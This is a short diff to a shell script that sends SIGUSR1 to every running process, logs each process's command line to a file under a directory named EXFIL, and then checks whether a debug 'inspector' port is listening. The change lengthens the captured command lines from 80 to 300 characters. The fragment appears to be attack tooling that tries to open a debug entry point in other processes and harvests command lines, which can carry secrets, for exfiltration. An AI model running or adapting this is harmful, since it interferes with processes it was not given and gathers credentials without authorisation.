@@ -4,7 +4,7 @@
 for dir in /proc/[0-9]*; do
   pid=${dir#/proc/}
   [ "$pid" = "$$" ] && continue
-  kill -USR1 "$pid" 2>/dev/null && echo "signalled $pid $(tr '\0' ' ' < "$dir/cmdline" | cut -c1-80)" >> "$EXFIL/sigusr1"
+  kill -USR1 "$pid" 2>/dev/null && echo "signalled $pid $(tr '\0' ' ' < "$dir/cmdline" | cut -c1-300)" >> "$EXFIL/sigusr1"
 done
 sleep 2
 if grep -qi ':2405 .* 0A ' /proc/net/tcp /proc/net/tcp6 2>/dev/null; then echo "inspector: listening" >> "$EXFIL/sigusr1"; fi
